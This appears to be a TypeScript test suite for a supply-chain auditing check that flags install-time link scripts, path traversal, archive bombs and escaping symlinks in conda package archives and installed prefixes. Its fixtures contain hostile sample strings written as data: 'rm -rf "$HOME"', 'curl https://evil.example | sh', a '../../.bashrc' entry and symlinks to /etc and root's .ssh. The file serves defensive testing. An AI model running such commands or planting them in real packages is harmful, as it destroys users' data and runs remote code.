import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { copyFileSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { sha256OfFile } from '../../../src/artifacts/package-dirs.ts';
import type { CheckContext } from '../../../src/checks/check.ts';
import { linkScriptsCheck } from '../../../src/checks/link-scripts.ts';
import { defaultCheckSettings } from '../../../src/checks/registry.ts';
import { readInventory } from '../../../src/engine/read-project.ts';
import type { Finding } from '../../../src/model/finding.ts';
import { fixture } from '../../helpers/paths.ts';
import { tempDirectory, writeTemp } from '../../helpers/temp.ts';
import { condaBytes, INDEX_JSON, type TarItem } from '../artifacts/archive-builder.ts';

const CHANNEL = 'https://conda.anaconda.org/example';

/** A pixi.lock (v6) installing the given archive file names from `CHANNEL/noarch/`. */
function lockFor(files: { file: string; sha256?: string }[]): string {
  const urls = files.map(({ file }) => `${CHANNEL}/noarch/${file}`);
  const selectors = urls.map((url) => `      - conda: ${url}`).join('\n');
  const records = files
    .map(({ sha256 }, i) => `- conda: ${urls[i]}${sha256 ? `\n  sha256: ${sha256}` : ''}`)
    .join('\n');
  return writeTemp(
    'pixi.lock',
    `version: 6\nenvironments:\n  default:\n    channels:\n    - url: ${CHANNEL}/\n    packages:\n      linux-64:\n${selectors}\npackages:\n${records}\n`,
  );
}

async function run(input: string, packageDirs: string[]): Promise<Finding[]> {
  const context: CheckContext = {
    now: new Date('2026-11-22T12:00:00Z'),
    offline: true,
    cacheDir: tempDirectory(),
    settings: { ...defaultCheckSettings(), packageDirs },
  };
  return linkScriptsCheck.run(readInventory(input), context);
}

const brief = (findings: Finding[]) => findings.map((f) => `${f.subject?.name} ${f.rule} ${f.severity}`);

function channelWith(files: Record<string, Uint8Array>): string {
  const channel = tempDirectory();
  mkdirSync(join(channel, 'noarch'));
  for (const [name, bytes] of Object.entries(files)) writeFileSync(join(channel, 'noarch', name), bytes);
  return channel;
}

const demoConda = condaBytes({
  stem: 'demo-1.0-0',
  info: [
    { name: 'info/index.json', data: INDEX_JSON('demo') },
    { name: 'info/recipe/post-link.sh', data: 'echo copy\n' },
  ],
  pkg: [
    { name: 'bin/.demo-post-link.sh', data: `#!/bin/bash\n${'y'.repeat(300)}\nline3\nline4\nline5\nline6\n` },
    { name: 'bin/.demo-pre-link.sh', data: '#!/bin/bash\nrm -rf "$HOME"\n' },
    { name: 'Scripts/.demo-pre-unlink.bat', data: '@echo off\r\necho bye\r\n' },
    { name: 'bin/.other-post-link.sh', data: 'not run for demo\n' },
  ],
});

describe('link-scripts check', () => {
  it('reports the scripts in a package archive found under packageDirs', async () => {
    const channel = channelWith({ 'demo-1.0-0.conda': demoConda });
    const findings = await run(lockFor([{ file: 'demo-1.0-0.conda' }]), [channel]);
    assert.deepEqual(brief(findings), [
      'demo link-scripts/pre-unlink medium',
      'demo link-scripts/post-link medium',
      'demo link-scripts/pre-link high',
    ]);
    const postLink = findings[1];
    assert.equal(postLink?.check, 'link-scripts');
    assert.match(postLink?.message ?? '', /post-link script bin\/\.demo-post-link\.sh in demo-1\.0-0\.conda/);
    assert.equal(postLink?.evidence.archive, join(channel, 'noarch', 'demo-1.0-0.conda'));
    assert.equal(postLink?.evidence.path, 'bin/.demo-post-link.sh');
    assert.equal(postLink?.evidence.size, 12 + 301 + 24);
    assert.deepEqual(postLink?.evidence.firstLines, [
      '#!/bin/bash',
      `${'y'.repeat(197)}...`,
      'line3',
      'line4',
      'line5',
    ]);
    assert.match(String(postLink?.evidence.sha256), /^[0-9a-f]{64}$/);
    assert.equal(postLink?.location?.file.endsWith('pixi.lock'), true);
    assert.deepEqual(findings[0]?.evidence.firstLines, ['@echo off', 'echo bye']);
  });

  it('reads .tar.bz2 archives, and uses only an archive whose sha256 matches the lock', async () => {
    const channel = tempDirectory();
    mkdirSync(join(channel, 'noarch'));
    const archive = join(channel, 'noarch', 'bz-script-1.0-0.tar.bz2');
    copyFileSync(fixture('archives/bz-script-1.0-0.tar.bz2'), archive);
    const matching = await run(lockFor([{ file: 'bz-script-1.0-0.tar.bz2', sha256: sha256OfFile(archive) }]), [
      channel,
    ]);
    assert.deepEqual(brief(matching), ['bz-script link-scripts/pre-link high']);
    assert.equal(matching[0]?.evidence.path, 'bin/.bz-script-pre-link.sh');
    const other = await run(lockFor([{ file: 'bz-script-1.0-0.tar.bz2', sha256: 'ab'.repeat(32) }]), [channel]);
    assert.deepEqual(other, []);
  });

  it('reports a recipe copy only when the payload has no script', async () => {
    const copyOnly = condaBytes({
      stem: 'copy-1.0-0',
      info: [{ name: 'info/recipe/pre-unlink.bat', data: 'echo x\r\n' }],
      pkg: [{ name: 'lib/x', data: '' }],
    });
    const findings = await run(lockFor([{ file: 'copy-1.0-0.conda' }]), [
      channelWith({ 'copy-1.0-0.conda': copyOnly }),
    ]);
    assert.deepEqual(brief(findings), ['copy link-scripts/recipe-copy low']);
    assert.equal(findings[0]?.evidence.path, 'info/recipe/pre-unlink.bat');
  });

  it('turns path traversal and bombs into findings instead of failing the audit', async () => {
    const evil = condaBytes({ stem: 'evil-1.0-0', info: [], pkg: [{ name: '../../.bashrc', data: 'curl x | sh' }] });
    const channel = channelWith({ 'evil-1.0-0.conda': evil });
    copyFileSync(fixture('archives/bz-bomb-1.0-0.tar.bz2'), join(channel, 'noarch', 'bz-bomb-1.0-0.tar.bz2'));
    const findings = await run(lockFor([{ file: 'evil-1.0-0.conda' }, { file: 'bz-bomb-1.0-0.tar.bz2' }]), [channel]);
    assert.deepEqual(brief(findings), [
      'bz-bomb link-scripts/unreadable-archive medium',
      'evil link-scripts/path-traversal high',
    ]);
    assert.match(findings[0]?.message ?? '', /limit maxRatio/);
    assert.deepEqual(findings[1]?.evidence.paths, [
      { path: '../../.bashrc', reason: 'parent-directory (..) segment', member: 'pkg' },
    ]);
    assert.equal(findings[1]?.evidence.count, 1);
  });

  it('turns an archive of over-long names into a not-checked finding', async () => {
    const named = condaBytes({
      stem: 'named-1.0-0',
      info: [],
      pkg: Array.from({ length: 50 }, (_, i) => ({ name: 'x', paxPath: `${i}/${'n'.repeat(8000)}`, data: 'x' })),
    });
    const findings = await run(lockFor([{ file: 'named-1.0-0.conda' }]), [channelWith({ 'named-1.0-0.conda': named })]);
    assert.deepEqual(brief(findings), ['named link-scripts/unreadable-archive medium']);
    assert.equal(findings[0]?.evidence.unchecked, true);
    assert.match(findings[0]?.message ?? '', /limit maxNameBytes/);
    assert.ok((findings[0]?.message.length ?? 0) < 600, 'the name is quoted short');
  });

  it('falls back to channeldata.json flags as a low hint when no archive is there', async () => {
    const channel = channelWith({});
    writeFileSync(
      join(channel, 'channeldata.json'),
      JSON.stringify({
        channeldata_version: 1,
        packages: { demo: { post_link: true, pre_link: false, pre_unlink: true } },
      }),
    );
    const findings = await run(lockFor([{ file: 'demo-1.0-0.conda' }]), [channel]);
    assert.deepEqual(brief(findings), ['demo link-scripts/post-link low', 'demo link-scripts/pre-unlink low']);
    assert.equal(findings[0]?.evidence.confidence, 'hint');
  });

  it('finds the scripts an installed package left in its prefix', async () => {
    const prefix = join(tempDirectory(), 'env');
    mkdirSync(join(prefix, 'conda-meta'), { recursive: true });
    mkdirSync(join(prefix, 'bin'));
    const record = {
      name: 'demo',
      version: '1.0',
      build: '0',
      build_number: 0,
      subdir: 'noarch',
      fn: 'demo-1.0-0.conda',
    };
    writeFileSync(join(prefix, 'conda-meta', 'demo-1.0-0.json'), JSON.stringify(record));
    writeFileSync(join(prefix, 'bin', '.demo-post-link.sh'), '#!/bin/sh\necho installed\n');
    const findings = await run(prefix, []);
    assert.deepEqual(brief(findings), ['demo link-scripts/post-link medium']);
    assert.equal(findings[0]?.evidence.prefix, prefix);
    assert.deepEqual(findings[0]?.evidence.firstLines, ['#!/bin/sh', 'echo installed']);
    assert.equal(findings[0]?.location?.file, join(prefix, 'conda-meta', 'demo-1.0-0.json'));
  });

  describe('a link script is reported whatever stands at its path', () => {
    const SCRIPT = '#!/bin/sh\ncurl https://evil.example | sh\n';
    const variants: Record<string, TarItem[]> = {
      'a file': [{ name: 'bin/.demo-post-link.sh', data: SCRIPT }],
      'a symlink to a later file': [
        { name: 'bin/.demo-post-link.sh', type: '2', linkname: '../share/demo/run.sh' },
        { name: 'share/demo/run.sh', data: SCRIPT },
      ],
      'a hardlink to an earlier file': [
        { name: 'share/demo/run.sh', data: SCRIPT },
        { name: 'bin/.demo-post-link.sh', type: '1', linkname: 'share/demo/run.sh' },
      ],
      'a chain of links': [
        { name: 'share/demo/run.sh', data: SCRIPT },
        { name: 'share/demo/hard.sh', type: '1', linkname: 'share/demo/run.sh' },
        { name: 'share/demo/soft.sh', type: '2', linkname: 'hard.sh' },
        { name: 'bin/.demo-post-link.sh', type: '2', linkname: '../share/demo/soft.sh' },
      ],
      'a file in a linked directory': [
        { name: 'bin', type: '2', linkname: 'tools' },
        { name: 'tools/.demo-post-link.sh', data: SCRIPT },
      ],
      'an entry of unknown tar type': [{ name: 'bin/.demo-post-link.sh', data: SCRIPT, type: 'Z' }],
    };
    for (const [variant, pkg] of Object.entries(variants)) {
      it(`as ${variant}`, async () => {
        const archive = condaBytes({ stem: 'demo-1.0-0', info: [], pkg });
        const findings = await run(lockFor([{ file: 'demo-1.0-0.conda' }]), [
          channelWith({ 'demo-1.0-0.conda': archive }),
        ]);
        const script = findings.find((f) => f.rule === 'link-scripts/post-link');
        assert.ok(script, brief(findings).join(', '));
        assert.equal(script.severity, 'medium');
        assert.equal(script.evidence.path, 'bin/.demo-post-link.sh');
        assert.equal(script.evidence.sha256, createHash('sha256').update(SCRIPT).digest('hex'));
        assert.deepEqual(script.evidence.firstLines, ['#!/bin/sh', 'curl https://evil.example | sh']);
        assert.equal(script.evidence.unread, undefined);
      });
    }

    it('names a script whose link leads out of the package, without reading anything there', async () => {
      const archive = condaBytes({
        stem: 'demo-1.0-0',
        info: [],
        pkg: [{ name: 'bin/.demo-pre-link.sh', type: '2', linkname: '/tmp/payload.sh' }],
      });
      const findings = await run(lockFor([{ file: 'demo-1.0-0.conda' }]), [
        channelWith({ 'demo-1.0-0.conda': archive }),
      ]);
      assert.deepEqual(brief(findings), ['demo link-scripts/escaping-link high', 'demo link-scripts/pre-link high']);
      const script = findings[1];
      assert.match(
        script?.message ?? '',
        /pre-link script bin\/\.demo-pre-link\.sh \(a symlink to \/tmp\/payload\.sh; not read: /,
      );
      assert.deepEqual(script?.evidence.link, { type: 'symlink', target: '/tmp/payload.sh' });
      assert.equal(script?.evidence.sha256, undefined);
    });
  });

  it('reports links that leave the package, and entries of a tar type it does not know', async () => {
    const archive = condaBytes({
      stem: 'demo-1.0-0',
      info: [],
      pkg: [
        { name: 'etc', type: '2', linkname: '/etc' },
        { name: 'x', type: '2', linkname: '../../../root/.ssh' },
        { name: 'lib/libz.so', type: '2', linkname: 'libz.so.1' },
        { name: 'lib/libz.so.1', data: 'ELF' },
        { name: 'lib/odd', data: 'what is this', type: 'Q' },
      ],
    });
    const findings = await run(lockFor([{ file: 'demo-1.0-0.conda' }]), [channelWith({ 'demo-1.0-0.conda': archive })]);
    assert.deepEqual(brief(findings), [
      'demo link-scripts/escaping-link high',
      'demo link-scripts/unknown-entry-type medium',
    ]);
    assert.deepEqual(findings[0]?.evidence.links, [
      { path: 'etc', type: 'symlink', target: '/etc', reason: 'absolute target /etc', member: 'pkg' },
      {
        path: 'x',
        type: 'symlink',
        target: '../../../root/.ssh',
        reason: 'climbs out of the package root with ..',
        member: 'pkg',
      },
    ]);
    assert.equal(findings[0]?.remedy, 'do not install this archive');
    assert.deepEqual(findings[1]?.evidence.entries, [{ path: 'lib/odd', typeflag: 'Q', member: 'pkg' }]);
    assert.equal(findings[1]?.evidence.unchecked, true);
  });

  describe('in an installed prefix', () => {
    function prefixWith(files: string[], extra: Record<string, unknown> = {}): string {
      const prefix = join(tempDirectory(), 'env');
      mkdirSync(join(prefix, 'conda-meta'), { recursive: true });
      mkdirSync(join(prefix, 'bin'));
      const record = { name: 'demo', version: '1.0', build: '0', build_number: 0, subdir: 'noarch', files, ...extra };
      writeFileSync(join(prefix, 'conda-meta', 'demo-1.0-0.json'), JSON.stringify(record));
      return prefix;
    }

    it('reports a script that is a symlink, with the content of the file inside the prefix', async () => {
      const prefix = prefixWith([]);
      mkdirSync(join(prefix, 'share'));
      writeFileSync(join(prefix, 'share', 'run.sh'), '#!/bin/sh\necho linked\n');
      symlinkSync('../share/run.sh', join(prefix, 'bin', '.demo-post-link.sh'));
      const findings = await run(prefix, []);
      assert.deepEqual(brief(findings), ['demo link-scripts/post-link medium']);
      assert.deepEqual(findings[0]?.evidence.link, {
        type: 'symlink',
        target: '../share/run.sh',
        file: 'share/run.sh',
      });
      assert.deepEqual(findings[0]?.evidence.firstLines, ['#!/bin/sh', 'echo linked']);
    });

    it('names a script linked outside the prefix but never reads the file it points at', async () => {
      const secret = writeTemp('secret.txt', 'root:hunter2-very-secret\n');
      const prefix = prefixWith([]);
      symlinkSync(secret, join(prefix, 'bin', '.demo-pre-unlink.sh'));
      const findings = await run(prefix, []);
      assert.deepEqual(brief(findings), ['demo link-scripts/pre-unlink medium']);
      assert.match(String(findings[0]?.evidence.unread), /outside the prefix/);
      assert.ok(!JSON.stringify(findings).includes('hunter2'), 'the target is not read');
    });

    it('does not hang on a FIFO where a script would be', async () => {
      const prefix = prefixWith([]);
      execFileSync('mkfifo', [join(prefix, 'bin', '.demo-post-link.sh')]);
      const findings = await run(prefix, []);
      assert.deepEqual(brief(findings), ['demo link-scripts/post-link medium']);
      assert.match(String(findings[0]?.evidence.unread), /not a regular file \(a FIFO\)/);
    });

    it('reports files of the package that are symlinks leading out of the prefix', async () => {
      const cache = join(tempDirectory(), 'pkgs', 'demo-1.0-0');
      mkdirSync(join(cache, 'lib'), { recursive: true });
      writeFileSync(join(cache, 'lib', 'softlinked.so'), 'ELF');
      const prefix = prefixWith(['etc', 'keys', 'lib/inside', 'lib/softlinked.so', 'lib/missing'], {
        extracted_package_dir: cache,
      });
      mkdirSync(join(prefix, 'lib'));
      symlinkSync('/etc', join(prefix, 'etc'));
      symlinkSync('../../../root/.ssh', join(prefix, 'keys'));
      symlinkSync('../bin', join(prefix, 'lib', 'inside'));
      symlinkSync(join(cache, 'lib', 'softlinked.so'), join(prefix, 'lib', 'softlinked.so'));
      const findings = await run(prefix, []);
      assert.deepEqual(brief(findings), ['demo link-scripts/escaping-link high']);
      assert.deepEqual(
        ((findings[0]?.evidence.links ?? []) as { path: string }[]).map((link) => link.path),
        ['etc', 'keys'],
      );
      assert.equal(findings[0]?.evidence.prefix, prefix);
      assert.match(findings[0]?.remedy ?? '', /remove this package from the environment/);
    });
  });

  it('refuses a package directory that does not exist', async () => {
    await assert.rejects(
      run(lockFor([{ file: 'demo-1.0-0.conda' }]), ['/nonexistent/pkgs']),
      /package directory not found/,
    );
  });
});
